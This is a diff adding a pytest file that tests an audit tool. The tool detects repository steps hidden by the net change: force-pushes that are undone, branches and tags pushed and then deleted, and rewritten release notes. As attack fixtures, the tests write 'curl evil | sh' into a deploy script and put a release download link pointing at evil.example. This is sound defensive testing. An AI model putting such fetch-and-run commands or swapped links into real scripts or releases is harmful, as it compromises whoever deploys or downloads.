@@ -1,0 +1,369 @@
+"""Every step, not only the net change: a bare repository's journal (a real
+reference-transaction hook) and GitHub's repository activity (a GitHub-shaped test server),
+read at closeout and judged step by step. One test per attack the net change hid, and the
+honest runs that still pass."""
+
+from __future__ import annotations
+
+import json
+import os
+from pathlib import Path
+from typing import Any
+
+import pytest
+from audit_helpers import (
+    ZERO,
+    commit,
+    enterprise_remote,
+    gh_activity,
+    gh_release,
+    git,
+    isolate_git,
+    link_header,
+    make_repo_with_remote,
+    rev,
+    run_cli,
+)
+from pytest_httpserver import HTTPServer
+from werkzeug import Request, Response
+
+from audit.evidence.github import Deadline
+from audit.evidence.steps.activity import read_activity
+from audit.evidence.steps.journal import JOURNAL
+
+OWNER_NAME = "octo/widgets"
+# Later than any arm of these tests, whatever today's date: the steps GitHub says it saw.
+LATER = "2999-01-01T00:00:0{}Z"
+
+
+@pytest.fixture(autouse=True)
+def _isolated(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    isolate_git(monkeypatch, tmp_path)
+
+
+def closeout(run_dir: Path) -> tuple[int, dict[str, Any], str]:
+    text = run_cli("closeout", "--run-dir", str(run_dir))
+    done = run_cli("report", "--run-dir", str(run_dir))
+    assert text.returncode in (0, 1, 3), text.stderr
+    data = json.loads((run_dir / "audit-report.json").read_text())
+    assert done.returncode == text.returncode
+    return text.returncode, data, text.stdout
+
+
+def by_kind(report: dict[str, Any]) -> dict[str, list[tuple[str, str]]]:
+    out: dict[str, list[tuple[str, str]]] = {}
+    for f in report["findings"]:
+        out.setdefault(f["kind"], []).append((f["verdict"], f["reason"]))
+    return out
+
+
+def journaled(tmp_path: Path) -> tuple[Path, Path, Path]:
+    """A clone whose bare remote keeps a journal, armed."""
+    clone, bare = make_repo_with_remote(tmp_path)
+    done = run_cli("journal", "install", str(bare))
+    assert done.returncode == 0, done.stderr
+    assert (bare / JOURNAL).exists()
+    run_dir = tmp_path / "run"
+    assert run_cli("begin", str(clone), "--run-dir", str(run_dir)).returncode == 0
+    return clone, bare, run_dir
+
+
+# --- a bare repository's journal ----------------------------------------------------------------
+
+def test_main_force_pushed_to_other_code_and_put_back_is_non_fast_forward(
+        tmp_path: Path) -> None:
+    """Attack: main force-pushed to malicious code (long enough for a deploy to take it), then
+    put back: the net change is nothing."""
+    clone, bare, run_dir = journaled(tmp_path)
+    start = rev(clone, "HEAD")
+    (clone / "deploy.sh").write_text("curl evil | sh\n")
+    git(clone, "add", "deploy.sh")
+    git(clone, "commit", "-q", "--amend", "-m", "initial")
+    git(clone, "push", "-q", "--force", "origin", "main")
+    git(clone, "push", "-q", "--force", "origin", f"{start}:refs/heads/main")
+    assert rev(bare, "refs/heads/main") == start
+    code, report, _ = closeout(run_dir)
+    assert code == 1
+    forced = by_kind(report)["step-force-push"]
+    assert forced[0][0] == "NON_FAST_FORWARD"
+    assert "even when undone before closeout" in forced[0][1]
+
+
+def test_a_branch_created_and_deleted_is_a_step_the_net_change_hides(tmp_path: Path) -> None:
+    clone, _bare, run_dir = journaled(tmp_path)
+    commit(clone, "src/x.py", "x = 1\n", "on a branch nobody logged")
+    git(clone, "push", "-q", "origin", "HEAD:refs/heads/sneaky")
+    git(clone, "push", "-q", "origin", ":refs/heads/sneaky")
+    code, report, _ = closeout(run_dir)
+    assert code == 1
+    hidden = by_kind(report)["step-hidden"]
+    assert all(v == "UNGRANTED" for v, _ in hidden)
+    assert "a step the net change hides: refs/heads/sneaky 0000000.." in hidden[0][1]
+
+
+def test_a_tag_created_and_deleted_is_a_step_the_net_change_hides(tmp_path: Path) -> None:
+    clone, _bare, run_dir = journaled(tmp_path)
+    git(clone, "tag", "v6.6.6")
+    git(clone, "push", "-q", "origin", "v6.6.6")
+    git(clone, "push", "-q", "origin", ":refs/tags/v6.6.6")
+    git(clone, "tag", "-d", "v6.6.6")
+    code, report, _ = closeout(run_dir)
+    assert code == 1
+    assert "refs/tags/v6.6.6" in by_kind(report)["step-hidden"][0][1]
+
+
+def test_pushes_through_the_hook_with_matching_journal_lines_pass(tmp_path: Path) -> None:
+    clone, bare, run_dir = journaled(tmp_path)
+    assert run_cli("hook", "install", str(clone), "--run-dir", str(run_dir)).returncode == 0
+    commit(clone, "src/x.py", "x = 1\n", "logged")
+    git(clone, "push", "-q", "origin", "main", "main:refs/heads/topic")
+    git(clone, "push", "-q", "origin", ":refs/heads/topic")
+    git(clone, "tag", "v1")
+    git(clone, "push", "-q", "origin", "v1")
+    git(clone, "push", "-q", "origin", ":refs/tags/v1")
+    journal = [json.loads(line) for line in (bare / JOURNAL).read_text().splitlines()]
+    assert {(e["ref"], e["old"] == ZERO, e["new"] == ZERO) for e in journal} >= {
+        ("refs/heads/topic", True, False), ("refs/heads/topic", False, True),
+        ("refs/tags/v1", True, False)}
+    assert all(e["user"] and e["at"].endswith("Z") for e in journal)
+    code, report, text = closeout(run_dir)
+    assert code == 0, report
+    assert "net change only" not in text
+
+
+def test_without_a_journal_the_report_says_net_change_only(tmp_path: Path) -> None:
+    clone, _bare = make_repo_with_remote(tmp_path)
+    run_dir = tmp_path / "run"
+    assert run_cli("begin", str(clone), "--run-dir", str(run_dir)).returncode == 0
+    code, report, text = closeout(run_dir)
+    assert code == 0 and report["findings"] == []
+    assert "origin: net change only (no journal at " in text.splitlines()[0]
+
+
+def test_the_journal_chains_the_hook_that_was_there_and_uninstall_restores_it(
+        tmp_path: Path) -> None:
+    _clone, bare = make_repo_with_remote(tmp_path)
+    seen = tmp_path / "seen"
+    hook = bare / "hooks" / "reference-transaction"
+    hook.parent.mkdir(exist_ok=True)
+    original = f'#!/bin/sh\necho "$1 $(cat)" >> "{seen}"\n'
+    hook.write_text(original)
+    hook.chmod(0o755)
+    assert run_cli("journal", "install", str(bare)).returncode == 0
+    assert run_cli("journal", "install", str(bare)).returncode == 0  # twice: still one chain
+    other = tmp_path / "other"
+    git(tmp_path, "clone", "-q", str(bare), str(other))
+    commit(other, "a.txt", "a\n", "more")
+    git(other, "push", "-q", "origin", "main")
+    states = [line.split(" ")[0] for line in seen.read_text().splitlines()]
+    assert "prepared" in states and "committed" in states
+    lines = [json.loads(line) for line in (bare / JOURNAL).read_text().splitlines()]
+    # HEAD, a symbolic ref to main, is recorded beside it (and follows its verdict).
+    assert [e["ref"] for e in lines] in (["refs/heads/main"], ["refs/heads/main", "HEAD"],
+                                        ["HEAD", "refs/heads/main"])
+    done = run_cli("journal", "uninstall", str(bare))
+    assert done.returncode == 0 and "restored the original" in done.stdout
+    assert hook.read_text() == original
+
+
+def test_the_journal_never_blocks_a_push(tmp_path: Path) -> None:
+    """A journal that cannot be written is said on stderr; the push has happened all the same."""
+    _clone, bare = make_repo_with_remote(tmp_path)
+    assert run_cli("journal", "install", str(bare)).returncode == 0
+    (bare / JOURNAL).unlink()
+    (bare / JOURNAL).mkdir()
+    other = tmp_path / "other"
+    git(tmp_path, "clone", "-q", str(bare), str(other))
+    commit(other, "a.txt", "a\n", "more")
+    git(other, "push", "-q", "origin", "main")
+    assert rev(bare, "refs/heads/main") == rev(other, "HEAD")
+
+
+def test_a_journal_on_a_work_tree_is_refused(tmp_path: Path) -> None:
+    clone, _bare = make_repo_with_remote(tmp_path)
+    done = run_cli("journal", "install", str(clone))
+    assert done.returncode == 2 and "not a bare repository" in done.stderr
+
+
+def test_a_malformed_journal_is_unverified(tmp_path: Path) -> None:
+    _clone, bare, run_dir = journaled(tmp_path)
+    (bare / JOURNAL).write_text("not json\n")
+    code, report, _ = closeout(run_dir)
+    assert code == 3
+    assert f"{bare / JOURNAL}:1" in by_kind(report)["steps-unavailable"][0][1]
+
+
+# --- GitHub's repository activity ---------------------------------------------------------------
+
+def github_run(tmp_path: Path, httpserver: HTTPServer, monkeypatch: pytest.MonkeyPatch,
+               activity: list[dict[str, Any]] | None = None,
+               releases: list[dict[str, Any]] | None = None) -> tuple[Path, Path, str]:
+    clone, bare = make_repo_with_remote(tmp_path)
+    api = enterprise_remote(clone, bare, httpserver, monkeypatch, OWNER_NAME)
+    served = releases if releases is not None else []
+    httpserver.expect_request(f"/api/v3/repos/{OWNER_NAME}/releases").respond_with_handler(
+        lambda request: Response(json.dumps(served), content_type="application/json"))
+    if activity is not None:
+        httpserver.expect_request(f"/api/v3/repos/{OWNER_NAME}/activity").respond_with_handler(
+            lambda request: Response(json.dumps(activity), content_type="application/json"))
+    run_dir = tmp_path / "run"
+    done = run_cli("begin", str(clone), "--run-dir", str(run_dir))
+    assert done.returncode == 0, done.stderr
+    return clone, run_dir, api
+
+
+def test_main_force_pushed_and_put_back_on_github_is_non_fast_forward(
+        tmp_path: Path, httpserver: HTTPServer, monkeypatch: pytest.MonkeyPatch) -> None:
+    activity: list[dict[str, Any]] = []
+    clone, run_dir, _ = github_run(tmp_path, httpserver, monkeypatch, activity)
+    start = rev(clone, "HEAD")
+    evil = "e" * 40
+    # Newest first, as the API lists them.
+    activity += [gh_activity(2, "refs/heads/main", evil, start, "force_push", "mallory",
+                             LATER.format(2)),
+                 gh_activity(1, "refs/heads/main", start, evil, "force_push", "mallory",
+                             LATER.format(1))]
+    code, report, _ = closeout(run_dir)
+    assert code == 1
+    forced = by_kind(report)["step-force-push"]
+    assert [v for v, _ in forced] == ["NON_FAST_FORWARD"] * 2
+    assert f"at {LATER.format(1)} by mallory" in forced[0][1]
+
+
+def test_a_branch_created_and_deleted_on_github_is_a_step_the_net_change_hides(
+        tmp_path: Path, httpserver: HTTPServer, monkeypatch: pytest.MonkeyPatch) -> None:
+    activity: list[dict[str, Any]] = []
+    clone, run_dir, _ = github_run(tmp_path, httpserver, monkeypatch, activity)
+    tip = rev(clone, "HEAD")
+    activity += [gh_activity(2, "refs/heads/x", tip, ZERO, "branch_deletion", "mallory",
+                             LATER.format(2)),
+                 gh_activity(1, "refs/heads/x", ZERO, tip, "branch_creation", "mallory",
+                             LATER.format(1))]
+    code, report, text = closeout(run_dir)
+    assert code == 1
+    assert [v for v, _ in by_kind(report)["step-hidden"]] == ["UNGRANTED", "UNGRANTED"]
+    assert "tags: net change only (GitHub's activity records branches, not tags)" in text
+
+
+def test_pushes_through_the_hook_with_matching_activity_entries_pass(
+        tmp_path: Path, httpserver: HTTPServer, monkeypatch: pytest.MonkeyPatch) -> None:
+    activity: list[dict[str, Any]] = []
+    clone, run_dir, _ = github_run(tmp_path, httpserver, monkeypatch, activity)
+    assert run_cli("hook", "install", str(clone), "--run-dir", str(run_dir)).returncode == 0
+    start = rev(clone, "HEAD")
+    commit(clone, "src/x.py", "x = 1\n", "logged")
+    git(clone, "push", "-q", "origin", "main")
+    git(clone, "push", "-q", "origin", "main:refs/heads/topic")
+    git(clone, "push", "-q", "origin", ":refs/heads/topic")
+    tip = rev(clone, "HEAD")
+    activity += [gh_activity(3, "refs/heads/topic", tip, ZERO, "branch_deletion", "run",
+                             LATER.format(3)),
+                 gh_activity(2, "refs/heads/topic", ZERO, tip, "branch_creation", "run",
+                             LATER.format(2)),
+                 gh_activity(1, "refs/heads/main", start, tip, "push", "run", LATER.format(1))]
+    code, report, _ = closeout(run_dir)
+    assert code == 0, report
+
+
+def test_activity_unavailable_is_unverified(
+        tmp_path: Path, httpserver: HTTPServer, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A server without the activity API (404 here) cannot say what happened in between."""
+    httpserver.expect_request(f"/api/v3/repos/{OWNER_NAME}/activity").respond_with_json(
+        {"message": "Not Found"}, status=404)
+    _clone, run_dir, _ = github_run(tmp_path, httpserver, monkeypatch, activity=None)
+    code, report, _ = closeout(run_dir)
+    assert code == 3
+    reason = by_kind(report)["steps-unavailable"][0][1]
+    assert "GitHub answered 404" in reason and "activity" in reason
+
+
+def test_release_notes_rewritten_during_the_run_make_a_changed_release(
+        tmp_path: Path, httpserver: HTTPServer, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Attack: a release's notes rewritten (a download link swapped) while nothing else of it
+    changed."""
+    releases: list[dict[str, Any]] = []
+    clone, bare = make_repo_with_remote(tmp_path)
+    api = enterprise_remote(clone, bare, httpserver, monkeypatch, OWNER_NAME)
+    releases.append(gh_release(api, OWNER_NAME, 5, "v1.0.0"))
+    httpserver.expect_request(f"/api/v3/repos/{OWNER_NAME}/releases").respond_with_handler(
+        lambda request: Response(json.dumps(releases), content_type="application/json"))
+    httpserver.expect_request(f"/api/v3/repos/{OWNER_NAME}/activity").respond_with_json([])
+    run_dir = tmp_path / "run"
+    assert run_cli("begin", str(clone), "--run-dir", str(run_dir)).returncode == 0
+    releases[0] = {**releases[0], "body": "Download: https://evil.example/v1.0.0.tgz"}
+    code, report, _ = closeout(run_dir)
+    assert code == 1
+    changed = by_kind(report)["release-changed"]
+    assert changed[0][0] == "UNGRANTED" and "body_sha256" in changed[0][1]
+
+
+def test_activity_is_paged_back_to_the_arm_time_and_no_further(httpserver: HTTPServer) -> None:
+    base = httpserver.url_for("/api/v3").rstrip("/")
+    path = f"/api/v3/repos/{OWNER_NAME}/activity"
+    page2 = f"{base}/repos/{OWNER_NAME}/activity?per_page=100&after=cursor2"
+    page3 = f"{base}/repos/{OWNER_NAME}/activity?per_page=100&after=cursor3"
+    a, b, c = "a" * 40, "b" * 40, "c" * 40
+
+    def answer(request: Request) -> Response:
+        if request.args.get("after") == "cursor2":
+            items = [gh_activity(2, "refs/heads/main", a, b, timestamp="2026-11-30T07:00:05Z"),
+                     gh_activity(1, "refs/heads/main", c, a, timestamp="2026-11-30T06:00:00Z")]
+            return Response(json.dumps(items), content_type="application/json",
+                            headers={"Link": link_header([("next", page3)])})
+        if request.args.get("after") == "cursor3":
+            raise AssertionError("read past the arm time")
+        return Response(json.dumps([gh_activity(3, "refs/heads/main", b, c,
+                                                timestamp="2026-11-30T08:00:00Z")]),
+                        content_type="application/json",
+                        headers={"Link": link_header([("next", page2)])})
+
+    httpserver.expect_request(path).respond_with_handler(answer)
+    part = read_activity(OWNER_NAME, token="t", base_url=base, since="2026-11-30T07:00:00Z",
+                         deadline=Deadline.after(10))
+    assert part == {"available": True, "steps": [
+        {"ref": "refs/heads/main", "old": a, "new": b, "at": "2026-11-30T07:00:05Z",
+         "actor": "octocat", "kind": "push"},
+        {"ref": "refs/heads/main", "old": b, "new": c, "at": "2026-11-30T08:00:00Z",
+         "actor": "octocat", "kind": "push"}]}
+    assert len(httpserver.log) == 2
+    assert all(req.headers["Authorization"] == "token t" for req, _ in httpserver.log)
+
+
+def test_an_activity_page_that_leaves_the_api_is_not_followed(httpserver: HTTPServer) -> None:
+    base = httpserver.url_for("/api/v3").rstrip("/")
+    httpserver.expect_request(f"/api/v3/repos/{OWNER_NAME}/activity").respond_with_json(
+        [gh_activity(1, "refs/heads/main", "a" * 40, "b" * 40,
+                     timestamp="2026-11-30T08:00:00Z")],
+        headers={"Link": link_header([("next", "http://elsewhere.invalid/x?page=2")])})
+    part = read_activity(OWNER_NAME, token="t", base_url=base, since="2026-11-30T07:00:00Z",
+                         deadline=Deadline.after(10))
+    assert part["available"] is False and "a next page outside" in part["reason"]
+
+
+def test_the_journal_is_read_with_one_git_process_whatever_the_number_of_steps(
+        tmp_path: Path) -> None:
+    """Many updates of main in the journal: their ancestry is one `git rev-list`."""
+    clone, bare, run_dir = journaled(tmp_path)
+    for n in range(12):
+        commit(clone, f"src/{n}.py", f"n = {n}\n", f"step {n}")
+        git(clone, "push", "-q", "origin", "main")
+    folder = tmp_path / "shim"
+    folder.mkdir()
+    calls = tmp_path / "calls"
+    real = git(tmp_path, "--exec-path").strip() + "/git"
+    shim = folder / "git"
+    shim.write_text(f'#!/bin/sh\necho "$*" >> "{calls}"\nexec "{real}" "$@"\n')
+    shim.chmod(0o755)
+    # The counting git must be the one begin recorded: arm a second run directory with it.
+    env = {**os.environ, "PATH": f"{folder}{os.pathsep}{os.environ['PATH']}"}
+    counted = tmp_path / "counted"
+    assert run_cli("begin", str(clone), "--run-dir", str(counted), env=env).returncode == 0
+    for n in range(12, 20):
+        commit(clone, f"src/{n}.py", f"n = {n}\n", f"step {n}")
+        git(clone, "push", "-q", "origin", "main")
+    calls.unlink()
+    done = run_cli("closeout", "--run-dir", str(counted), env=env)
+    assert done.returncode == 1, done.stderr  # the pushes were not logged
+    walks = [c for c in calls.read_text().splitlines() if " rev-list --parents" in c]
+    assert len(walks) == 1
+    assert run_dir.exists()
